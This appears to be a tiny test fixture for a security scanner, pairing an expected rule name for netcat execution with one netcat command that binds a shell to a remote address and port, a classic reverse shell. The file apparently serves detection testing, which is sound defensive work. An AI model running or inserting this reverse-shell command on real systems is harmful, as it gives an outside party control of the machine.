# expect: sh.netcat-exec
nc -e /bin/sh 10.0.0.1 4444
